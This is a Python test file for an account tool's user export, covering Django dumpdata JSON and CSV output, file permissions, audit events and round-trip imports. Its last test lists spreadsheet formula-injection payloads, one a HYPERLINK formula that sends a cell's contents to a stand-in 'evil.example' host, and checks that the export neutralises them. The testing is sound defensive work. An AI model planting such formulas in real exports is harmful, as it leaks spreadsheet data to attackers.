"""`accounts user export`, as Django's dumpdata JSON and as csv: what it writes, that Django's
`loaddata` reads it back, round trips into another device, and cells a spreadsheet would run as
formulas."""

import csv
import io
import json
import os
import shutil
import stat

import pytest

from conftest import (BOB, BOB_EMAIL, BOB_FULL_NAME, BOB_PASSWORD, EMAIL, FULL_NAME, PASSWORD,
                      USERNAME, WRONG_PASSWORD, Device)

# The helpers' asserts report their values as the tests' own do.
pytest.register_assert_rewrite("importing")
from importing import (CAROL, CAROL_PASSWORD, DOMAIN, export, import_,  # noqa: E402
                       logs_in, mkpasswd, names, nothing_imported, other_device,
                       refused_login, shadow_line, write)

pytest_plugins = ["importing"]


CAROL_QUOTED = 'Smith, Carol "Caz" \\ Zoë'

CSV_HEADER = ("username,full_name,email,password_hash,disabled,must_change_password,created_at,"
              "last_login")
JSON_KEYS = {"model", "pk", "fields"}
FIELD_KEYS = {"username", "first_name", "last_name", "email", "password", "is_active",
              "is_staff", "is_superuser", "date_joined", "last_login", "groups",
              "user_permissions"}


@pytest.fixture
def three(activated):
    """alice (owner), bob (logged in once), carol (disabled, full name with a comma and quotes,
    must change her password), added in the order carol, bob."""
    activated.add_user(CAROL, CAROL_QUOTED, "carol@example.org", CAROL_PASSWORD)
    activated.add_user()
    logs_in(activated, BOB, BOB_PASSWORD, BOB_FULL_NAME)
    assert activated.run("user", "disable", CAROL).code == 0
    assert activated.run("user", "passwd", CAROL, "--password-stdin", "--must-change",
                         input=CAROL_PASSWORD + "\n").code == 0
    return activated


def test_export_json_is_django_dumpdata(three):
    """Default export: one JSON array in user-name order, each entry Django's dumpdata form with
    the account's id, hash, owner as superuser, disabled as not active, creation and last login."""
    result = export(three)
    assert (result.code, result.stderr) == (0, ""), result
    entries = json.loads(result.stdout)
    accounts = {a["username"]: a for a in three.accounts()}
    ids = dict((name, id_) for id_, name in three.query("SELECT id, username FROM account"))
    assert [e["fields"]["username"] for e in entries] == [USERNAME, BOB, CAROL]
    for entry in entries:
        name = entry["fields"]["username"]
        assert set(entry) == JSON_KEYS and set(entry["fields"]) == FIELD_KEYS, entry
        assert (entry["model"], entry["pk"]) == ("auth.user", ids[name])
        account = accounts[name]
        assert entry["fields"] == {
            "username": name, "first_name": account["fullName"], "last_name": "",
            "email": account["email"], "password": three.stored_hash(name),
            "is_active": not account["disabled"], "is_staff": False,
            "is_superuser": account["owner"], "date_joined": account["createdAt"],
            "last_login": account["lastLogin"], "groups": [], "user_permissions": []}
    assert [e["fields"]["is_superuser"] for e in entries] == [True, False, False]
    assert entries[1]["fields"]["last_login"] is not None
    assert entries[2]["fields"]["last_login"] is None


def test_export_csv(three):
    """`--format csv`: the exact header, then one RFC 4180 row per account in user-name order
    (quoting the full name), booleans `true`/`false`, timestamps, an empty last login for never."""
    result = export(three, "--format", "csv")
    assert (result.code, result.stderr) == (0, ""), result
    assert result.stdout.splitlines()[0] == CSV_HEADER
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
    accounts = {a["username"]: a for a in three.accounts()}
    expected = []
    for name in (USERNAME, BOB, CAROL):
        a = accounts[name]
        expected.append([name, a["fullName"], a["email"], three.stored_hash(name),
                         "true" if a["disabled"] else "false",
                         "true" if a["mustChangePassword"] else "false",
                         a["createdAt"], a["lastLogin"] or ""])
    assert rows == expected
    assert rows[2][1] == CAROL_QUOTED and rows[2][4:6] == ["true", "true"]


def test_export_output_file_is_private(three):
    """`--output FILE` writes a new file of mode 0600 (even under umask 0), nothing on stdout,
    holding what stdout would hold."""
    result = three.run("user", "export", "--output", "out.json", umask=0)
    assert (result.code, result.stdout, result.stderr) == (0, "", ""), result
    path = three.root / "out.json"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert json.loads(path.read_text()) == json.loads(export(three).stdout)


def test_export_never_overwrites(three):
    """An existing --output file is refused: `out.csv exists; export never overwrites a file.`
    exit 1, the file unchanged."""
    path = three.root / "out.csv"
    path.write_text("keep me\n")
    os.chmod(path, 0o644)
    result = export(three, "--format", "csv", "--output", "out.csv")
    assert (result.code, result.stdout, result.stderr) == (
        1, "", "out.csv exists; export never overwrites a file.\n")
    assert path.read_text() == "keep me\n"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o644


def test_export_audit_events(three):
    """Each export writes one `accounts_exported` event, detail `3 accounts (json)` /
    `3 accounts (csv)`."""
    assert export(three).code == 0
    assert export(three, "--format", "csv", "--output", "x.csv").code == 0
    exported = [e["detail"] for e in three.events() if e["event"] == "accounts_exported"]
    assert exported == ["3 accounts (json)", "3 accounts (csv)"]


def test_export_loads_into_django(three, django_project):
    """The JSON export loads with Django's `loaddata` into a fresh Django database, where
    `check_password` accepts each password (and not a wrong one) and the flags read back."""
    assert three.run("user", "export", "--output", str(django_project.folder / "accounts.json")
                     ).code == 0
    django_project.admin("loaddata", str(django_project.folder / "accounts.json"))
    assert django_project.check_passwords([
        (USERNAME, PASSWORD), (BOB, BOB_PASSWORD), (CAROL, CAROL_PASSWORD),
        (BOB, WRONG_PASSWORD)]) == [True, True, True, False]
    assert django_project.users() == {
        USERNAME: (True, True, FULL_NAME, EMAIL), BOB: (True, False, BOB_FULL_NAME, BOB_EMAIL),
        CAROL: (False, False, CAROL_QUOTED, "carol@example.org")}


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_round_trip(three, tmp_path, fmt):
    """Export from one device, import into another owned by someone else: every account logs in
    there with its password (carol once enabled), the old owner is an ordinary account, flags
    kept."""
    assert export(three, "--format", fmt, "--output", f"all.{fmt}").code == 0
    other = other_device(tmp_path)
    shutil.copy(three.root / f"all.{fmt}", other.root / f"all.{fmt}")
    result = import_(other, f"all.{fmt}")
    assert (result.code, result.stdout, result.stderr) == (
        0, f"Imported 3 accounts from all.{fmt}.\n", ""), result
    accounts = {a["username"]: a for a in other.accounts()}
    assert sorted(accounts) == [USERNAME, BOB, CAROL, "owen"]
    assert [n for n, a in accounts.items() if a["owner"]] == ["owen"]
    assert accounts[CAROL]["disabled"] and accounts[CAROL]["fullName"] == CAROL_QUOTED
    assert [e["detail"] for e in other.events() if e["event"] == "accounts_imported"] == [
        f"3 accounts ({'django' if fmt == 'json' else 'csv'})"]
    logs_in(other, USERNAME, PASSWORD, FULL_NAME)
    logs_in(other, BOB, BOB_PASSWORD, BOB_FULL_NAME)
    refused_login(other, CAROL, CAROL_PASSWORD)
    assert other.run("user", "enable", CAROL).code == 0
    if fmt == "csv":
        assert accounts[CAROL]["mustChangePassword"]
    else:
        logs_in(other, CAROL, CAROL_PASSWORD, CAROL_QUOTED)


def test_round_trip_owner_name_taken(three, tmp_path):
    """Importing into a device whose owner is also called alice: entry 1 is taken; nothing
    imported there."""
    assert export(three, "--output", "all.json").code == 0
    root = tmp_path / "other"
    root.mkdir()
    other = Device(root)
    other.activate(USERNAME, "Another Alice", "alice2@example.org",
                   "violet harbour compass seventeen")
    shutil.copy(three.root / "all.json", other.root / "all.json")
    nothing_imported(import_(other, "all.json"),
                     "entry 1 (alice): user name alice is already taken.", code=1)
    assert names(other) == [USERNAME]


def test_imported_crypt_hash_exports_and_reimports(activated, tmp_path):
    """A yescrypt hash imported from shadow is exported as it is (csv) and logs in on a second
    device after importing that export."""
    crypt_hash = mkpasswd("yescrypt", BOB_PASSWORD)
    write(activated, "shadow", shadow_line(BOB, crypt_hash) + "\n")
    assert import_(activated, "shadow", "--email-domain", DOMAIN).code == 0
    result = export(activated, "--format", "csv")
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows[2][:4] == [BOB, BOB, f"{BOB}@{DOMAIN}", crypt_hash]
    other = other_device(tmp_path)
    write(other, "all.csv", result.stdout)
    assert import_(other, "all.csv").code == 0
    logs_in(other, BOB, BOB_PASSWORD)

# Cells a spreadsheet would run as formulas.

FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Click me")', "+1 555 0100", "-2+3",
            "@SUM(A1:A9)", "'=already quoted", "''+twice"]


def test_export_csv_neutralises_formulas(activated, tmp_path):
    """A full name, user name or e-mail a spreadsheet would run (starting with `=`, `+`, `-` or
    `@`, after any `'`s) is exported with a `'` before it and quoted, as OWASP advises; other
    cells are as they were (a `'` that starts no formula is kept as it is). Imported into another
    device, the export gives back exactly the same names."""
    def add(username, full_name, email, password):
        # `--flag=value`: a value starting with `-` is not taken for a flag.
        result = activated.run("user", "add", f"--username={username}",
                               f"--full-name={full_name}", f"--email={email}",
                               "--password-stdin", input=password + "\n")
        assert (result.code, result.stderr) == (0, ""), result

    for number, name in enumerate(FORMULAS):
        add(f"user{number}", name, f"user{number}@example.org", BOB_PASSWORD)
    add("-minus", "'Quoted' Name", "+tag@example.org", CAROL_PASSWORD)
    result = export(activated, "--format", "csv")
    assert (result.code, result.stderr) == (0, ""), result
    lines = result.stdout.splitlines()
    by_name = {line.split(",", 1)[0]: line for line in lines[1:]}
    assert by_name["user0"].startswith(
        'user0,"\'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")",user0@example.org,')
    assert by_name["user1"].startswith('user1,"\'+1 555 0100",user1@example.org,')
    assert by_name["user2"].startswith('user2,"\'-2+3",')
    assert by_name["user3"].startswith('user3,"\'@SUM(A1:A9)",')
    assert by_name["user4"].startswith('user4,"\'\'=already quoted",')
    assert by_name["user5"].startswith('user5,"\'\'\'+twice",')
    assert by_name['"\'-minus"'].startswith(
        '"\'-minus",\'Quoted\' Name,"\'+tag@example.org",pbkdf2_sha256$')
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))[1:]
    assert {row[1] for row in rows} == {FULL_NAME, "'Quoted' Name"} | {"'" + f for f in FORMULAS}
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row)

    (activated.root / "all.csv").write_text(result.stdout)
    other = other_device(tmp_path)
    shutil.copy(activated.root / "all.csv", other.root / "all.csv")
    result = import_(other, "all.csv")
    assert (result.code, result.stderr) == (0, ""), result
    original = {a["username"]: (a["fullName"], a["email"]) for a in activated.accounts()}
    imported = {a["username"]: (a["fullName"], a["email"]) for a in other.accounts()}
    assert imported == {**original, "owen": ("Owen Owner", "owen@example.org")}
    result = other.run("login", "--no-session", "--username=-minus", "--password-stdin",
                       input=CAROL_PASSWORD + "\n")
    assert (result.code, result.out_lines[0]) == (0, "Welcome back 'Quoted' Name!"), result
